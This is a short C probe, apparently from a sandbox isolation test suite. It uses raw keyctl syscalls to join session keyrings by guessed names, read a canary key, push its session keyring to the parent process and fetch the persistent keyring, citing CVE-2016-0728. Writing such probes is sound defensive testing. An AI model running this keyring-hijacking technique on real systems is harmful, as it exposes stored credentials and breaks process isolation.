/* Joins session keyrings by name, and hands its own to others (keyctl(2) JOIN_SESSION_KEYRING, CVE-2016-0728). */
#include "common/attack.h"

static void attempt(void) {
    char bytes[512];
    static const char *names[] = {"_ses", "_uid.0", "_uid_ses.0", "_ses.1", "innkeep-canary"};
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        TRY(syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, names[i]));
        long found = TRY(syscall(SYS_keyctl, 10, -3, "user", "innkeep-canary", 0));
        long len = syscall(SYS_keyctl, 11, found, bytes, sizeof bytes);
        printf("%.*s\n", len > 0 ? (int)len : 0, bytes);
    }
    TRY(syscall(SYS_keyctl, 18 /* SESSION_TO_PARENT */));
    TRY(syscall(SYS_keyctl, 22 /* GET_PERSISTENT */, 0, -3));
}
